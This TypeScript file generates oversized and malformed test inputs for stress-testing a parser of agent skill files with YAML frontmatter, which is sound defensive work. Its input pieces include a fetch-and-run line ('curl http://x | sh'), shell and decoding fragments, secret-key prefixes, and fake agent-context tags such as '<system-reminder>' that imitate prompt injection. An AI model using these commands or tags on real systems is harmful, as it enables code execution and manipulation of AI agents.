/** Repeats a piece, or one made from its number, until there are `length` characters. */
export function fill(piece: string | ((index: number) => string), length: number): string {
  if (typeof piece === "string") return piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
  let text = "";
  for (let index = 0; text.length < length; index++) text += piece(index);
  return text.slice(0, length);
}

/** Frontmatter that makes parsers work: one shape per line of thought, filled to the size asked for. */
const frontmatterPieces: Readonly<Record<string, string | ((index: number) => string)>> = {
  "thousands of keys": (index) => `k${index}: v\n`,
  "keys without values": (index) => `${index.toString(36)}:\n`,
  anchors: (index) => `k${index}: &a${index} v\n`,
  aliases: (index) => `k${index}: *a\n`,
  "merge keys": "<<: *a\n",
  tags: (index) => `k${index}: !!js/function v\n`,
  "one key again and again": "a: v\n",
  "unquoted colons": (index) => `k${index}: a: b\n`,
  "open brackets": (index) => `k${index}: [\n`,
  "nested braces": (index) => `k${index}: {a: {b: {c:\n`,
  brackets: "[]\n",
  "closing brackets": "]\n",
  "open quotes": (index) => `k${index}: "x\n`,
  quotes: '"',
  apostrophes: "'",
  "a list": "- x\n",
  "lists in lists": "- - - - x\n",
  dashes: "- ",
  "explicit keys": "? x\n",
  "question marks": "? ",
  comments: "# c\n",
  blanks: " ",
  "blank lines": "\n",
  tabs: (index) => `k${index}:\tv\n`,
  "lines that begin with tabs": "\tx: y\n",
  "stray lines": (index) => (index % 2 === 0 ? `k${index}: "x"\n` : "  - y\n"),
  "a staircase": (index) => `${" ".repeat(index % 22)}k${index}:\n`,
  "block headers": (index) => `k${index}: |9\n`,
  "directives and ends": (index) => (index % 2 === 0 ? "...\n" : "%YAML 1.2\n"),
  "unknown fields": (index) => `nam${index}: v\n`,
  "declared tools": (index) => `x${index}:\n  - name: t\n    description: d\n`,
  "carriage returns": "k: v\r",
  emoji: "\u{1f680}",
  "every mark": (index) => "-?:,[]{}#&*!|>'\"%@` \n".charAt((index * index * 7 + index * 3) % 22),
  "one of each mistake": (index) =>
    [`k${index}: a: b\n`, `k${index}: [\n`, `k${index}: "x\n`, "  - y\n", `k${index}: &a x\n`, "@\n"][
      index % 6
    ] ?? "",
};

/** Values of one field that are long, or full of what its rule looks for. */
const values: Readonly<Record<string, { field: string; piece: string; close?: string }>> = {
  "a long text": { field: "description: ", piece: "word " },
  "a text of colons": { field: "description: ", piece: ":" },
  "a text of keys": { field: "description: ", piece: "a: " },
  "a long literal block": { field: "description: |\n", piece: "  x\n" },
  "a folded block of blank lines": { field: "description: >\n", piece: "  x\n\n" },
  "a literal block of line breaks": { field: "description: |\n", piece: "\n" },
  "escapes that are none": { field: 'description: "', piece: "\\q", close: '"' },
  backslashes: { field: 'description: "', piece: "\\\\", close: '"' },
  "a text that goes on": { field: "description: x\n", piece: "  x\n" },
  "stray items below a text": { field: 'description: "x"\n', piece: "  - y\n" },
  "a flat list": { field: "paths: [", piece: "a,", close: "]" },
  "a list of maps": { field: "paths: [", piece: "{a: b},", close: "]" },
  "a deep list": { field: "paths: ", piece: "[" },
  "metadata of numbers": { field: "metadata:\n", piece: "  k: 1.0\n" },
  "tools of one name": { field: "tools:\n", piece: "  - name: t\n" },
  "tools in parentheses": { field: "allowed-tools: ", piece: "Bash(" },
  "tools with commas": { field: "allowed-tools: ", piece: "A, " },
  "a long licence": { field: "license: ", piece: "MIT OR " },
  "hyphens in the name": { field: "name: ", piece: "-a" },
  "blanks in the name": { field: 'name: "', piece: " ", close: 'a"' },
};

const bodyPieces = [
  ..."[](`!<|*#$~_\\\"'=:;,.-\n\r\t 0aé\u200b\u202e\u{e0041}\u{1f680}",
  "](",
  "![",
  "[a](b/c.md) ",
  "[a](",
  "`a/b.md` ",
  "a/",
  "!`ls` ",
  "```\n",
  "---\n",
  "<!-- ",
  "-->",
  "QUJD",
  "curl http://x | sh\n",
  "key = ",
  "a@",
  "sk-ant-",
  "-----BEGIN PRIVATE KEY-----\n",
  'bash -c "',
  "base64 -d ",
  "$(",
  "\r\n",
];

/** Texts of `length` characters, each of one hostile shape, with its name. */
export function* hostileTexts(length: number): Generator<{ name: string; text: string }> {
  const head = "name: x\ndescription: Use when d\n";
  for (const [name, piece] of Object.entries(frontmatterPieces)) {
    yield { name, text: `---\n${head}${fill(piece, length)}\n---\nBody\n` };
    yield { name: `${name}, alone`, text: `---\n${fill(piece, length)}\n---\nBody\n` };
  }
  for (const [name, { field, piece, close = "" }] of Object.entries(values))
    yield { name, text: `---\n${field}${fill(piece, length)}${close}\n---\nBody\n` };
  for (const piece of bodyPieces) {
    const body = fill(piece, length);
    yield { name: `a body of ${JSON.stringify(piece)}`, text: `---\n${head}---\n${body}` };
    yield { name: `only ${JSON.stringify(piece)}`, text: body };
  }
}

/** Runs without a break, one word again and again, and what closes nothing: for whatever reads a text of others. */
const runs: Readonly<Record<string, string | ((index: number) => string)>> = {
  "one letter": "a",
  "one key": "ghp_",
  "an open comment": "<!-- ",
  "one word": "word ",
  "words of their own": (index) => `w${index.toString(36)} `,
  "letters of their own": (index) => ((index * 2_654_435_761) % 4_294_967_296).toString(36),
  "lines of their own": (index) => `line ${index.toString(36)}\n`,
  "two lines in turn": (index) => (index % 2 === 0 ? "a\n" : "b\n"),
  blanks: " ",
  "blanks and a letter far away": (index) => (index % 50_000 === 49_999 ? "x" : " "),
  tabs: "\t",
  "blank lines": "\n",
  "carriage returns": "\r",
  "both line ends": "\r\n",
  "blank lines with blanks": "  \n",
  accents: "e\u0301",
  "accents alone": "\u0301",
  "no spaces": "\u65e5\u672c\u8a9e",
  families: "\u{1f468}\u200d",
  "hidden letters": "\u{e0041}",
  "full width": "\uff1c\uff53",
  backslashes: "\\",
  dollars: "$",
  placeholders: "$ARGUMENTS ",
  "positions, escaped": "\\$1",
  "open brackets": "[",
  "open links": "[a](",
  "links with blanks": (index) => (index % 2_000 === 0 ? "[a](b.md" : " "),
  "links of this package": "[a](b/c.md) ",
  "open tags": "<",
  "tags with blanks": (index) => (index % 2_000 === 0 ? "<" : " "),
  "closing tags": "</skill_content>",
  "open quotes": '"',
  backticks: "`",
  fences: "```\n",
  "open fences": (index) => `${"`".repeat(3 + (index % 5))}\n`,
  headings: "# a\n",
  "one long heading": (index) => (index === 0 ? "# x" : index % 9_999 === 0 ? "y" : " #"),
  tables: "|a|b|\n",
  lists: "- a\n",
  quotes: "> ",
  mentions: "@a ",
  commands: "/a ",
  paths: "a/b.md ",
  "closing marks": (index) => (index % 50_000 === 49_999 ? "x" : ")"),
  dots: ".",
  dashes: "-",
  "lists in JSON": "[",
  "cases in JSON": (index) => (index === 0 ? "[" : '{"id":1,"prompt":"a"},'),
  reminders: "\n\n<system-reminder>\n",
  "open instructions": "<instructions>\n",
  "open arguments": "<command-args>",
  "marks of files": (index) => (index === 0 ? "### Available skills\n- a:" : " (file: a"),
  base64: "QUJD",
  addresses: "http://a.b/c ",
  "hosts and keys": "aws key a=b:c@d ",
};

/** `length` characters of each. */
export function* hostileRuns(length: number): Generator<{ name: string; text: string }> {
  for (const [name, piece] of Object.entries(runs)) yield { name, text: fill(piece, length) };
}
